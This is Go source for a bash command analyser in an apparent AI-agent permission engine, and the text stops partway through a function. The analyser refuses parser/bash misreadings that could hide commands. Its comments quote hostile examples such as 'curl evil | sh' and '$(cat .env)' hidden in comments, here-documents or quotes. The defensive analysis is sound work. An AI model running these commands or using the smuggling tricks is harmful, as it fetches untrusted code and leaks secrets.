// Package bash analyses a shell command string for the permission engine
// (package perm).
//
// Parse reads the string as bash and returns every simple command in it,
// nested ones included, with every file redirect and a list of obfuscation
// findings. Each Command then offers the forms permission rules match:
// AllowForm is narrow (only provably literal text may ever be allowed),
// DenyForms is broad (every normalised reading, so that wrappers, quoting,
// paths and nesting do not hide a denied command). Destructive and ReadOnly
// classify a command for the checks that do not depend on rules.
//
// Anything the analysis cannot prove resolves to the safer answer: a word
// that is not literal is not Static, code that cannot be read is reported
// in Script.Suspicious, and a syntax error is an error, never an empty
// script.
package bash

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"

	"mvdan.cc/sh/v3/syntax"

	"github.com/gen-run/gen/internal/lazy"
)

// maxDepth bounds how deeply shell code inside strings (bash -c, eval, ...)
// is parsed. Deeper code is reported as suspicious rather than analysed.
const maxDepth = 8

// Script is the analysis of one command string.
type Script struct {
	// Commands lists every simple command in source order, a command
	// before the commands nested in it; the commands of code that a
	// reading with values put in runs (constprop.go) come last.
	Commands []*Command
	// Redirects lists every file redirect in the script, nested ones
	// included. Here-documents, here-strings, fd duplications and closes,
	// and /dev/null are left out.
	Redirects []Redirect
	// Suspicious lists script-level obfuscation findings as short stable
	// labels, each at most once. Empty if none.
	Suspicious []string
	// NotReadOnly, when set, says why no command of the script may count
	// as read-only: an arithmetic or subscript context ((( )), $(( )),
	// ${a[...]}, [[ x -eq y ]], [[ -v ]], let) holds an expansion whose
	// value bash evaluates as code.
	NotReadOnly string
	// sets, setsAny, outside and code are what the script may set
	// (sets.go).
	sets          []string
	setsAny       bool
	outside, code string
	// data and dataAny are the variables the script may set to text it
	// does not know (read, $(...), a loop over files), and arith and
	// arithAny those whose value bash evaluates as arithmetic (sets.go).
	data, arith       []string
	dataAny, arithAny bool
	// tildePlus is set when a source the script parses holds "~+".
	tildePlus bool
	// funcs are the names of the functions the script defines, nested
	// code's too (Unmodelled); nil when it defines none.
	funcs map[string]bool
	// exportsAll memoises Script.allExport: 0 not known yet, 1 no, 2 yes.
	exportsAll uint8
	// owner is the collector that made the script, for Release.
	owner *collector
}

// Release hands the memory of s's commands and words back for a later
// Parse to reuse. It must be the last use of s: neither s nor anything
// taken from it (its Commands, their Words and Assigns) may be used
// afterwards, and s must not be released twice. Strings taken from it
// stay valid.
func (s *Script) Release() {
	c := s.owner
	if c == nil {
		return
	}
	cmds, words, list := c.cmds, c.words, s.Commands
	if cap(cmds) > maxSlabCommands || cap(words) > maxSlabWords || cap(list) > maxSlabCommands {
		*c = collector{} // a huge script's: left to the collector
		return
	}
	// Only the first len elements of a slab were ever cut and written.
	clear(cmds)
	clear(words)
	clear(list)
	*c = collector{cmds: cmds[:0], words: words[:0], list: list[:0]}
	collectors.Put(c)
}

// collectors holds released collectors, whose slabs the next Parse cuts
// its commands and words from.
var collectors = sync.Pool{New: func() any { return new(collector) }}

// maxSlabCommands and maxSlabWords are the largest slabs a collector
// makes (a longer script takes several) and keeps when released.
const (
	maxSlabCommands = 64
	maxSlabWords    = 256
)

// Command is one simple command. Its methods only read it and are safe
// for concurrent use; a Command must not be changed after Parse made it.
type Command struct {
	// Words are the command's arguments, program name first, as parsed.
	// For declare, export, local, readonly and typeset the assignments
	// are words too (export X=1 has the words "export" and "X=1").
	Words []Word
	// Assigns are the leading NAME=value assignments. A command may have
	// assignments and no words (X=1 alone).
	Assigns []Assign
	// Nested is true if the command runs inside $(...), `...`, <(...),
	// >(...) or shell code in a string (bash -c, eval, trap, alias, ...).
	Nested bool
	// Stdin is the text of the here-document or here-string the command
	// reads as its standard input (its own, or one given to the group or
	// subshell around it), unquoted where it is static and as written
	// where it is not, or the static output of echo or printf piped or
	// redirected into it (echo 'x' | bash, bash < <(echo x)); "" if none.
	// A program may run it as code (bash, at, make -f /dev/stdin), so
	// deny rules read it.
	Stdin string
	// stdinStatic reports that Stdin is static text.
	stdinStatic bool
	// stdinUnseen reports that the command's standard input is what the
	// gate cannot see and is no file (walkState.stdinOf).
	stdinUnseen bool
	// stdinFile reports that a < redirect of its own statement (or of a
	// group or subshell around it) gives the command a file as its
	// standard input.
	stdinFile bool

	forkBomb bool // on a cycle that starts processes without bound (forkbomb.go)
	// spaced is the words' Raw texts joined by single spaces, if the
	// source has them so (it is then a slice of the source, no copy);
	// else "". See joinRaw.
	spaced string
	cached [][]Word  // variants, computed once by Parse
	first  [1][]Word // cached's storage while it holds one reading
	// narrowed is narrow's answer, worked out once by Parse (the allow
	// form, the read-only check and git's checks all ask).
	narrowed struct {
		words    []Word
		ok, done bool
	}
}

// Assign is one leading NAME=value assignment of a command.
type Assign struct {
	// Name is the variable name.
	Name string
	// Raw is the whole assignment as written, e.g. `X="a b"`.
	Raw string
	// Value is the assigned value with its quoting removed if Static;
	// else "".
	Value string
	// Static reports a plain NAME=value (no +=, index or array) whose
	// value is literal text without tilde expansion.
	Static bool
}

// Redirect is one file redirection.
type Redirect struct {
	// Op is the operator as written without its fd: ">", ">>", "&>",
	// "&>>", ">|", "<", "<>", ">&" (to a file), "<&".
	Op string
	// Output reports that the redirect writes its target.
	Output bool
	// Target is the file word.
	Target Word
}

// SyntaxError reports a shell syntax error. It prints as "line:col: msg"
// and wraps the parser's error (a syntax.ParseError or syntax.LangError),
// which errors.As still finds.
type SyntaxError struct {
	Line, Col uint
	Err       error
}

func (e *SyntaxError) Error() string { return e.Err.Error() }

func (e *SyntaxError) Unwrap() error { return e.Err }

// Parse parses src as bash and returns every simple command in it. A
// syntax error is returned as a *SyntaxError; shell code in strings that
// cannot be parsed is not an error but a Suspicious finding.
func Parse(src string) (*Script, error) {
	shape := shapeOf(src)
	if err := shape.check(); err != nil {
		return nil, err
	}
	f, src, err := parseFile(src)
	if err != nil {
		return nil, err
	}
	c := collectors.Get().(*collector)
	c.shape = shape
	c.script.owner = c
	c.reserve(src)
	c.text(src)
	st := c.walkState(src)
	c.walk(f, st)
	st.release()
	if c.tooDeep {
		c.script.Release()
		return nil, tooComplex("nested more than %d levels deep", maxWalk)
	}
	c.propagate()
	c.releaseProp()
	if c.compoundCode() {
		c.suspect(labelCompound)
	}
	if c.calls != nil {
		c.calls.markForkBombs()
	}
	return &c.script, nil
}

// pooledParser is a bash parser with the reader it reads from.
type pooledParser struct {
	p *syntax.Parser
	r strings.Reader
}

// parsers holds parsers for reuse. syntax.Parser.Parse resets the whole
// parser state, an earlier error included, and the File it returns shares
// no memory with the parser's later parses, so a parser taken from the
// pool after any earlier use parses exactly as a new one. Nested shell
// code (bash -c) takes a parser of its own while the outer tree is walked.
var parsers = sync.Pool{New: func() any {
	return &pooledParser{p: syntax.NewParser(syntax.Variant(syntax.LangBash))}
}}

// parseFile parses src as bash. It also returns the source the tree's
// positions refer to: src, or src with bracket-glob command names quoted
// (quoteGlobName). An error is the first syntax error in src.
func parseFile(src string) (*syntax.File, string, error) {
	src, ok := endComments(src)
	if !ok {
		return nil, "", &SyntaxError{Err: fmt.Errorf("more than %d comment lines end in a backslash", maxCommentFixes)}
	}
	f, err := parseOnce(src)
	if err == nil {
		if err := misreadings(f, src); err != nil {
			return nil, "", &SyntaxError{Err: err}
		}
		return f, src, nil
	}
	first := err
	// `c[u]rl x` is a command whose name is a glob to bash (a word with
	// no "=" is never an assignment), but the parser takes `c[u]` for the
	// start of an array assignment. An empty quoted string in front of
	// the word keeps its value and its glob and makes it no assignment.
	for range maxGlobNames {
		fixed, ok := quoteGlobName(src, err)
		if !ok {
			break
		}
		g, gerr := parseOnce(fixed)
		if gerr == nil {
			if err := misreadings(g, fixed); err != nil {
				return nil, "", &SyntaxError{Err: err}
			}
			return g, fixed, nil
		}
		src, err = fixed, gerr
	}
	err = first
	se := &SyntaxError{Err: err}
	var pe syntax.ParseError
	var le syntax.LangError
	switch {
	case errors.As(err, &pe):
		se.Line, se.Col = pe.Pos.Line(), pe.Pos.Col()
	case errors.As(err, &le):
		se.Line, se.Col = le.Pos.Line(), le.Pos.Col()
	}
	return nil, "", se
}

// parseOnce parses src as bash with a pooled parser.
func parseOnce(src string) (*syntax.File, error) {
	pp := parsers.Get().(*pooledParser)
	pp.r.Reset(src)
	f, err := pp.p.Parse(&pp.r, "")
	pp.r.Reset("")
	parsers.Put(pp)
	return f, err
}

// endComments returns src with each comment ended where bash ends it: at
// the end of its line. The parser takes a backslash that ends a comment
// line for a line continuation and drops the line after it, so that
// `ls # x\` followed by a line `curl evil | sh` would be one read-only
// ls to the gate while bash runs both. The backslash is a comment's text,
// which bash ignores: endComments makes it a space, keeping every offset.
// Only a source with both a "#" and a backslash-newline is looked at (a
// second parse, keeping comments). It returns false past
// maxCommentFixes such comments.
func endComments(src string) (string, bool) {
	if !strings.Contains(src, "\\\n") || strings.IndexByte(src, '#') < 0 {
		return src, true
	}
	p := syntax.NewParser(syntax.KeepComments(true), syntax.Variant(syntax.LangBash))
	for range maxCommentFixes + 1 {
		f, err := p.Parse(strings.NewReader(src), "")
		if err != nil {
			return src, true // the parse that follows fails too
		}
		at := -1
		syntax.Walk(f, func(n syntax.Node) bool {
			if c, ok := n.(*syntax.Comment); ok && at < 0 {
				if i := strings.Index(c.Text, "\\\n"); i >= 0 {
					at = int(c.Pos().Offset()) + 1 + i
				}
			}
			return at < 0
		})
		if at < 0 {
			return src, true
		}
		if at >= len(src) || src[at] != '\\' {
			return src, false
		}
		src = src[:at] + " " + src[at+1:]
	}
	return src, false
}

// misreadings refuses what the parser is known to read otherwise than
// bash, where the difference could hide or change a command:
//   - a here-document whose end the parser and bash may place
//     differently. The parser reads a backslash-newline in a body as an
//     escape and so never takes the line after it for the delimiter; bash
//     joins the two lines of an unquoted delimiter's body first (a line
//     "\" before "E" is "E": the end), and ends a quoted one's at that
//     line. Where the parser reads on, the commands up to the next
//     delimiter line vanish into the body (`cat <<E`, a line "\", "E",
//     then `curl evil`). Only a body with a backslash-newline is looked
//     at: misreadings finds where bash ends it and refuses the script when
//     that is not where the parser did;
//   - a backslash-newline inside an expansion in the body of a
//     here-document with an unquoted delimiter
//     (expansionContinuation);
//   - a backquoted substitution with a backslash-newline or an escaped
//     backslash in it: bash removes one level of backslashes inside
//     backquotes before it reads the command, and the parser reads such a
//     command otherwise (`p \\` and a newline, then `x`, is p x to bash;
//     in `p \\"a>b\\"` bash sees a redirect to b");
//   - a backquoted substitution holding a backquote the parser took for
//     quoted (bareBackquote);
//   - inside double quotes, what quotedMisreadings lists.
func misreadings(f *syntax.File, src string) error {
	backquote := strings.Contains(src, "`")
	heredoc := strings.Contains(src, "<<") && strings.Contains(src, `\`) || strings.Contains(src, "<<-")
	quotedParam := strings.Contains(src, "${") && strings.Contains(src, "'")
	if !backquote && !heredoc && !quotedParam {
		return nil
	}
	var bad error
	syntax.Walk(f, func(n syntax.Node) bool {
		if dq, ok := n.(*syntax.DblQuoted); ok && bad == nil {
			bad = quotedMisreadings(dq, src)
			return bad == nil
		}
		if cs, ok := n.(*syntax.CmdSubst); ok && cs.Backquotes && bad == nil {
			from, to := int(cs.Pos().Offset()), int(cs.End().Offset())
			switch {
			case from+2 > to || to > len(src):
				bad = errors.New("a backquoted command substitution the parser placed outside the source")
			case strings.Contains(src[from:to], "\\\n") || strings.Contains(src[from:to], `\\`):
				bad = errors.New("a backquoted command substitution with a backslash-newline or an escaped backslash in it, which bash and the parser read differently")
			case bareBackquote(src[from+1 : to-1]):
				bad = errors.New("a backquote inside quotes inside a backquoted command substitution, where bash ends the substitution and the parser does not")
			}
			return bad == nil
		}
		r, ok := n.(*syntax.Redirect)
		if !ok || bad != nil || r.Hdoc == nil || (r.Op != syntax.Hdoc && r.Op != syntax.DashHdoc) {
			return bad == nil
		}
		start, end := int(r.Hdoc.Pos().Offset()), int(r.Hdoc.End().Offset())
		if start > end || end > len(src) {
			bad = errors.New("a here-document the parser placed outside the source")
			return false
		}
		for start >= 2 && src[start-2:start] == "\\\n" {
			start -= 2 // the parser starts the body after a backslash-newline
		}
		dash := r.Op == syntax.DashHdoc
		if ansiQuoted(r.Word) {
			// Bash decodes $'...' in the delimiter ($'\x45' is E);
			// the parser took the text as written.
			delim := newWord(r.Word, src)
			if !delim.Static || heredocEnd(src, start, delim.Value, dash, true) != end {
				bad = errors.New("a here-document delimiter written with $'...', which bash decodes and the parser does not, so that they end the body at different lines")
				return false
			}
		}
		if !strings.Contains(src[start:end], "\\\n") {
			if dash {
				// The parser reads no expansion in a quoted
				// delimiter's body: this looks at an unquoted one's.
				bad = expansionContinuation(r.Hdoc, src, true)
			}
			return bad == nil
		}
		delim := newWord(r.Word, src)
		if !delim.Static {
			bad = errors.New("a here-document with a backslash-newline in its body and a delimiter that is not literal")
			return false
		}
		quoted := strings.ContainsAny(delim.Raw, `'"\`)
		if bashEnd := heredocEnd(src, start, delim.Value, dash, quoted); bashEnd != end {
			bad = fmt.Errorf("a here-document whose end (delimiter %q) bash and the parser place differently: a body line ends in a backslash", delim.Value)
			return false
		}
		if !quoted {
			bad = expansionContinuation(r.Hdoc, src, dash)
		}
		return bad == nil
	})
	return bad
}

// ansiQuoted reports whether w holds a $'...' string with an escape.
func ansiQuoted(w *syntax.Word) bool {
	for _, p := range w.Parts {
		if q, ok := p.(*syntax.SglQuoted); ok && q.Dollar && strings.IndexByte(q.Value, '\\') >= 0 {
			return true
		}
	}
	return false
}

// bareBackquote reports whether s, the text between a backquoted
// substitution's backquotes, holds a backquote no backslash escapes.
// Bash ends the substitution at the first one, quotes or not, so that in
// `echo 'a`;touch x;echo `b'` it runs touch; the parser read the quotes
// as quoting, and the whole as one word.
func bareBackquote(s string) bool {
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '\\':
			i++ // what it escapes
		case '`':
			return true
		}
	}
	return false
}

// quotedMisreadings refuses what the parser reads otherwise than bash
// inside the double quotes dq:
//   - an escaped double quote in a backquoted substitution. There bash
//     turns \" into " before it reads the command, and the parser reads
//     the command otherwise: to it, "`echo ""\""""#x;cat .env`" ran echo
//     and a comment;
//   - single quotes around an expansion in a parameter expansion's word.
//     There bash takes them for plain characters and expands what is
//     between them; the parser took them for quotes, so that
//     "${x:-'$(cat .env)'}" ran no command to it.
func quotedMisreadings(dq *syntax.DblQuoted, src string) error {
	var bad error
	syntax.Walk(dq, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.DblQuoted:
			// misreadings visits each double-quoted string, nested
			// ones too: this one's are looked at on their own.
			return n == dq
		case *syntax.CmdSubst:
			if from, to := int(n.Pos().Offset()), int(n.End().Offset()); n.Backquotes && from <= to && to <= len(src) && strings.Contains(src[from:to], `\"`) {
				bad = errors.New("a backquoted command substitution inside double quotes with an escaped double quote in it, which bash and the parser read differently")
			}
		case *syntax.ParamExp:
			var words []*syntax.Word
			if n.Exp != nil {
				words = append(words, n.Exp.Word)
			}
			if n.Repl != nil {
				words = append(words, n.Repl.Orig, n.Repl.With)
			}
			for _, w := range words {
				if w != nil && quotedExpansion(w) {
					bad = errors.New("single quotes around an expansion in a parameter expansion inside double quotes, where bash expands it and the parser does not")
				}
			}
		}
		return bad == nil
	})
	return bad
}

// quotedExpansion reports whether the word w has a single-quoted part
// holding a "$" or a backquote.
func quotedExpansion(w *syntax.Word) bool {
	found := false
	syntax.Walk(w, func(n syntax.Node) bool {
		if sq, ok := n.(*syntax.SglQuoted); ok && strings.ContainsAny(sq.Value, "$`") {
			found = true
		}
		return !found
	})
	return found
}

// expansionContinuation refuses what the parser reads otherwise than
// bash in an expansion in the body of a here-document with an unquoted
// delimiter:
//   - a backslash-newline. Bash joins the body's lines at every one
//     before it expands anything, quotes or not, while the parser reads
//     an expansion's code as code, in which a backslash-newline between
//     single quotes (or in a comment) stays: to bash, $(cat '.e\ and a
//     newline, then nv') reads .env;
//   - with <<- (dash), a line starting with a tab inside it: bash strips
//     the tab from every body line first, inside quotes too.
func expansionContinuation(body *syntax.Word, src string, dash bool) error {
	var bad error
	syntax.Walk(body, func(n syntax.Node) bool {
		switch n.(type) {
		case *syntax.CmdSubst, *syntax.ArithmExp, *syntax.ParamExp, *syntax.ProcSubst:
			from, to := int(n.Pos().Offset()), int(n.End().Offset())
			switch {
			case from > to || to > len(src):
				bad = errors.New("an expansion the parser placed outside the source")
			case strings.Contains(src[from:to], "\\\n"):
				bad = errors.New("a here-document whose body has a backslash-newline inside an expansion, which bash and the parser read differently")
			case dash && strings.Contains(src[from:to], "\n\t"):
				bad = errors.New("a <<- here-document whose body has a line starting with a tab inside an expansion, which bash strips and the parser does not")
			}
		}
		return bad == nil
	})
	return bad
}

// heredocEnd returns where bash ends a here-document whose body starts
// at start: the end of its delimiter line, without the newline, or -1 if
// no line is the delimiter. Of an unquoted delimiter's body, a line that
// ends in an odd number of backslashes is joined to the next without the
// last backslash and the newline first; <<- removes leading tabs.
func heredocEnd(src string, start int, delim string, dash, quoted bool) int {
	var logical strings.Builder
	for i := start; i < len(src); {
		j := strings.IndexByte(src[i:], '\n')
		next := len(src)
		if j < 0 {
			j = len(src) - i
		} else {
			next = i + j + 1
		}
		line := src[i : i+j]
		if dash {
			line = strings.TrimLeft(line, "\t")
		}
		if !quoted && (len(line)-len(strings.TrimRight(line, `\`)))%2 == 1 {
			logical.WriteString(line[:len(line)-1])
			i = next
			continue
		}
		logical.WriteString(line)
		if logical.String() == delim {
			return i + j
		}
		logical.Reset()
		i = next
	}
	return -1
}

// maxGlobNames bounds how many bracket-glob command names (`c[u]rl x`)
// one source is re-parsed for; past it the syntax error stands.
const maxGlobNames = 8

// maxCommentFixes bounds how many comments ending in a backslash one
// source is re-parsed for (endComments); past it the source is refused.
const maxCommentFixes = 8

// quoteGlobName returns src with an empty quoted string (two single
// quotes) put before the word err reports as an array assignment with no
// "=" (`c[u]rl x`, `a[1] x`, `c[u]+x`), and true; false if err is not that
// error or does not point at a name followed by "[". Bash reads such a
// word as a command word (a glob), and so does the parser once the word
// starts with a quote: the value and the unquoted "[" that makes it a
// glob are unchanged.
func quoteGlobName(src string, err error) (string, bool) {
	// The parser returns the error itself, not wrapped: a type assertion
	// needs no allocation, where errors.As would make one for every
	// syntax error.
	pe, ok := err.(syntax.ParseError)
	if !ok || !strings.HasPrefix(pe.Text, "`a[b]") || !strings.HasSuffix(pe.Text, "must be followed by `=`") {
		return "", false
	}
	off := int(pe.Pos.Offset())
	if off >= len(src) {
		return "", false
	}
	name, _, found := strings.Cut(src[off:], "[")
	if !found || !validName(name) {
		return "", false
	}
	return src[:off] + "''" + src[off:], true
}

// collector gathers commands, redirects and findings while walking syntax
// trees: the script's own and those of shell code found in strings.
type collector struct {
	script Script
	// cmds and words are slabs the next Command and its Words are cut
	// from, so that a script's commands cost a few allocations in all
	// rather than two each. They are never shared between Scripts.
	cmds  []Command
	words []Word
	// list is the Commands slice of the script released last, empty,
	// which the next script's Commands reuse.
	list []*Command
	// guess is how many commands reserve expects.
	guess int
	// calls is the call graph of the functions and endless loops seen,
	// made on first use (see forkbomb.go).
	calls *callGraph
	// props is what constant propagation keeps of the walk, made on
	// first need (constprop.go).
	props *propagation
	// shape is what the sources parsed so far hold that the parser
	// recurses on: nested code is parsed only while their sum stays
	// within the bounds (shapeOf).
	shape shape
	// depth counts the nodes the walks are inside, nested walks
	// included; tooDeep is set once a node was not entered because
	// depth reached maxWalk.
	depth   int
	tooDeep bool
	// compound is what labelCompound looks at (compound.go).
	compound compounds
}

// descend reports whether a walk may enter one more node, counting it in
// depth (a walk's leave takes it off); at maxWalk it sets tooDeep: the
// stack would not hold the node.
func (c *collector) descend() bool {
	if c.depth >= maxWalk {
		c.tooDeep = true
		return false
	}
	c.depth++
	return true
}

// mvdan/sh's parser and syntax.Walk recurse once for each level a source
// nests, and a stack exhausted is a fatal error no recover catches (about
// a hundred thousand levels of "$(" do it). Three bounds keep the stack
// within a few hundred megabytes, whatever the source holds:
//   - maxSource bounds a source's length, so the parser, which takes up
//     to about 1.3 KB of stack a level ([[ ! ! ...), nests at most that
//     deep;
//   - maxOpeners bounds the "(", "{", "[" and backquotes (counted
//     wherever they are, so quoting hides none), on which it takes up to
//     ten; the sources a Script is parsed from, nested code included,
//     share both;
//   - maxWalk bounds the nodes the walks are inside at once, nested code's
//     and arithmetic's walks included: past it the source is too deep.
//
// A script past one is a syntax error, and so is one nested code takes
// past maxWalk; nested code past maxSource or maxOpeners is suspicious and
// not parsed. Either way the call is Ask, never Allow. A 20,000-part "&&"
// chain is within all three.
const (
	maxSource  = 512 << 10
	maxOpeners = 20_000
	maxWalk    = 60_000
)

// shape is what a source holds that mvdan/sh's parser recurses on.
type shape struct{ bytes, openers int }

// shapeOf measures src.
func shapeOf(src string) shape {
	sh := shape{bytes: len(src)}
	for i := 0; i < len(src); i++ {
		sh.openers += int(opener[src[i]])
	}
	return sh
}

// opener is 1 for the bytes that open a construct mvdan/sh's parser
// recurses into, 0 for others: a count without a branch per byte.
var opener = [256]uint8{'(': 1, '{': 1, '[': 1, '`': 1}

// add returns the sum of sh and o.
func (sh shape) add(o shape) shape { return shape{sh.bytes + o.bytes, sh.openers + o.openers} }

// check returns a *SyntaxError if sh is past the bounds.
func (sh shape) check() error {
	switch {
	case sh.bytes > maxSource:
		return tooComplex("%d bytes of shell code, at most %d", sh.bytes, maxSource)
	case sh.openers > maxOpeners:
		return tooComplex("%d brackets and backquotes, at most %d", sh.openers, maxOpeners)
	}
	return nil
}

// tooComplex is the syntax error of a source past a bound.
func tooComplex(format string, args ...any) error {
	return &SyntaxError{Err: fmt.Errorf("too complex to analyse: "+format, args...)}
}

// reserve sizes the slabs for src: a command at most per separator byte,
// a word at most per blank. The guess is cheap and usually close; the
// slabs grow past it when it is short.
func (c *collector) reserve(src string) {
	cmds := 1
	for i := 0; i < len(src); i++ {
		cmds += int(separator[src[i]])
	}
	words := strings.Count(src, " ") + 1
	c.guess = min(cmds, maxSlabCommands)
	// A released collector's slabs are empty and zero: kept if large
	// enough.
	if cap(c.cmds) < c.guess {
		c.cmds = make([]Command, 0, c.guess)
	}
	if n := min(words, maxSlabWords); cap(c.words) < n {
		c.words = make([]Word, 0, n)
	}
}

// separator is 1 for the bytes that may start another command, 0 for
// others.
var separator = [256]uint8{';': 1, '|': 1, '&': 1, '\n': 1, '`': 1, '(': 1}

// newCommand returns a new zero Command cut from the slab.
func (c *collector) newCommand() *Command {
	if len(c.cmds) == cap(c.cmds) {
		c.cmds = make([]Command, 0, min(2*max(cap(c.cmds), 2), maxSlabCommands))
	}
	c.cmds = c.cmds[:len(c.cmds)+1]
	return &c.cmds[len(c.cmds)-1]
}

// newWords returns n zero Words cut from the slab, with no spare capacity:
// an append to them never reaches another command's words.
func (c *collector) newWords(n int) []Word {
	if n > cap(c.words)-len(c.words) {
		c.words = make([]Word, 0, max(n, min(2*max(cap(c.words), 8), maxSlabWords)))
	}
	start := len(c.words)
	c.words = c.words[:start+n]
	return c.words[start : start+n : start+n]
}

// walkState is the context of one walk over one parsed source. Every
// question about the nodes around the current one is answered from
// counters kept up to date as nodes are entered and left, so that a walk
// is linear in the size of the tree however deep it nests.
type walkState struct {
	src    string // the source the positions refer to
	nested bool   // the whole source is shell code from a string
	depth  int    // how many shell-code strings deep src is
	subst  int    // how many substitutions enclose the current node
	stack  []frame
	// parent is the walk of the source the string src came from (eval
	// 'f & f' inside f), nil for the script itself. It does not change
	// while this walk runs.
	parent *walkState

	forks  int     // enclosing nodes run in a process of their own (see forkbomb.go)
	bg     int     // enclosing background statements and coprocesses
	scopes []scope // enclosing functions and endless loops, innermost last
	// outerScope reports a function or endless loop around the code
	// this walk's source came from, in the parent walks.
	outerScope bool
	arith      int // enclosing arithmetic contexts already checked

	// made is the Command visit just made of a CallExpr, for enter to
	// keep on its frame: the words of its arguments are then not
	// unquoted a second time when the walk reaches them.
	made *Command
	// environ is false if src holds neither "/proc/" nor "environ", so
	// that no word's text as written can (see readsEnviron). It is worked
	// out on first use, once environKnown is set (see mayReadEnviron).
	environ, environKnown bool

	c  *collector             // the collector this walk feeds
	fn func(syntax.Node) bool // the syntax.Walk callback, made once per walkState
}

// frame is one enclosing node and what entering it changed in walkState.
type frame struct {
	node  syntax.Node
	cmd   *Command // for a CallExpr: the Command made of it, if any
	next  int      // for a CallExpr: the argument the walk reaches next
	flags frameFlag
	// unseen memoises unseenFrom for this frame (0: not known yet,
	// 1: no input, 2: unseen input, 3: a file) while the frame above it
	// stays the same.
	unseen uint8
}

type frameFlag uint8

const (
	inSubst frameFlag = 1 << iota // a command or process substitution
	inFork                        // a node run in a process of its own
	inBg                          // a background statement or a coprocess
	inScope                       // a named function or an endless loop
	inArith                       // an arithmetic context
)

// walkStates holds walkStates for reuse, and a walk of nested shell code
// takes one of its own. release leaves one as new but for the frames past
// the top of its stack, which enter overwrites before any use: they keep
// the nodes of an earlier walk reachable only until the pool lets go of
// the walkState.
var walkStates sync.Pool

// The pool's New is set in init: a walk may parse nested code, which
// takes a walkState from the pool again.
func init() { walkStates.New = newWalkState }

func newWalkState() any {
	st := &walkState{stack: make([]frame, 0, 32)} // deep enough for most commands
	st.fn = func(n syntax.Node) bool {
		if n == nil {
			st.leave()
			st.c.depth--
			return true
		}
		st.c.visit(n, st)
		if inert(n) {
			return false // nothing below it to check: not entered, not left
		}
		if !st.c.descend() {
			return false
		}
		st.enter(n)
		return true
	}
	return st
}

// inert reports a node no check looks below: a literal, a quoted string,
// a comment, or a word made only of literals and quoted strings. Neither
// visit nor enter does anything for the nodes under it, so the walk need
// not go there; it is most of the nodes of a typical command.
func inert(n syntax.Node) bool {
	switch n := n.(type) {
	case *syntax.Lit, *syntax.SglQuoted, *syntax.Comment:
		return true
	case *syntax.Word:
		for _, p := range n.Parts {
			switch p := p.(type) {
			case *syntax.Lit, *syntax.SglQuoted:
			case *syntax.DblQuoted:
				for _, q := range p.Parts {
					if _, ok := q.(*syntax.Lit); !ok {
						return false
					}
				}
			default:
				return false
			}
		}
		return true
	}
	return false
}

// walkState returns the state for a walk over src that feeds c. Release it
// once the walk is done.
func (c *collector) walkState(src string) *walkState {
	st := walkStates.Get().(*walkState)
	st.c, st.src = c, src
	return st
}

// mayReadEnviron reports whether some word's text as written in src may
// name an environment file: src holds "/proc/" or "environ".
func (st *walkState) mayReadEnviron() bool {
	if !st.environKnown {
		st.environ = strings.Contains(st.src, "/proc/") || strings.Contains(st.src, "environ")
		st.environKnown = true
	}
	return st.environ
}

// release resets st and returns it to walkStates.
func (st *walkState) release() {
	stack := st.stack
	if cap(stack) > 1024 {
		stack = make([]frame, 0, 32) // a deep tree's stack is not kept
	}
	scopes, fn := st.scopes[:0], st.fn
	*st = walkState{stack: stack[:0], scopes: scopes, fn: fn}
	walkStates.Put(st)
}

func (st *walkState) inNested() bool { return st.nested || st.subst > 0 }

// enter records n, whose parent is the top of the stack, as enclosing the
// nodes visited until leave.
func (st *walkState) enter(n syntax.Node) {
	var f frameFlag
	switch n := n.(type) {
	case *syntax.CmdSubst, *syntax.ProcSubst:
		f |= inSubst | inFork
		st.subst++
	case *syntax.Stmt:
		if n.Background || n.Coprocess {
			f |= inFork | inBg
		}
	case *syntax.CoprocClause:
		f |= inFork | inBg
	case *syntax.BinaryCmd:
		if n.Op == syntax.Pipe || n.Op == syntax.PipeAll {
			f |= inFork
		}
	case *syntax.Subshell:
		f |= inFork
	case *syntax.FuncDecl:
		if n.Name != nil {
			f |= inScope
			st.enterScope(n.Name.Value, true)
		}
	case *syntax.WhileClause:
		if endless(n) {
			f |= inScope
			st.enterScope("", false)
		}
	case *syntax.ForClause:
		if cs, ok := n.Loop.(*syntax.CStyleLoop); ok && cs.Cond == nil {
			f |= inScope
			st.enterScope("", false)
		}
	}
	if f&inFork != 0 {
		st.forks++
	}
	if f&inBg != 0 {
		st.bg++
	}
	if st.arithRoot(n) {
		f |= inArith
		st.arith++
	}
	// The frame is written field by field in place: copying a whole
	// frame in costs a bulk write barrier while the GC runs.
	if len(st.stack) == cap(st.stack) {
		st.stack = slices.Grow(st.stack, 1)
	}
	st.stack = st.stack[:len(st.stack)+1]
	fr := &st.stack[len(st.stack)-1]
	fr.node, fr.flags, fr.next, fr.cmd, fr.unseen = n, f, 0, nil, 0
	if k := len(st.stack) - 2; k >= 0 {
		st.stack[k].unseen = 0 // its answer depends on the frame above
	}
	if _, ok := n.(*syntax.CallExpr); ok {
		fr.cmd, st.made = st.made, nil
	}
}

// stdinOf says what the command being visited reads as its standard
// input. text is what the script shows of it, and static whether text is
// static (else it is as written): the body of a here-document or
// here-string, or the static output of echo or printf piped into it or
// given to it through `< <(...)` (staticOutput), on its own statement or
// on a group or subshell statement around it. It is "" if there is none,
// or another redirect or a pipe from another command supplies stdin
// first. unseen reports input the gate cannot see that is no file: a pipe
// from another command, a duplicated descriptor (<&3, which exec
// 3<<<'...' may have filled), <>, a process substitution whose output is
// not static, a coprocess's, a function's (it comes from where the
// function is called), and any input given to a loop or a list around
// the command, whose text is not the command's own. A file (< f) is the
// project's data, like a script file.
func (st *walkState) stdinOf() (text string, static, unseen, file bool) {
	for i := len(st.stack) - 1; i >= 0; i-- {
		switch n := st.stack[i].node.(type) {
		case *syntax.Stmt:
			for j := len(n.Redirs) - 1; j >= 0; j-- {
				r := n.Redirs[j]
				if r.N != nil && r.N.Value != "0" {
					continue
				}
				switch r.Op {
				case syntax.Hdoc, syntax.DashHdoc, syntax.WordHdoc:
					body := r.Hdoc
					if r.Op == syntax.WordHdoc {
						body = r.Word
					}
					t, s := st.docText(body)
					return t, s, false, false // its text is checked as it is
				case syntax.RdrIn:
					if ps, ok := procSubst(r.Word); ok {
						t, s := staticOutput(ps.Stmts)
						return t, s, !s, false
					}
					return "", false, false, true
				case syntax.DplIn, syntax.RdrInOut:
					return "", false, true, false
				}
			}
		case *syntax.Block, *syntax.Subshell:
		case *syntax.BinaryCmd:
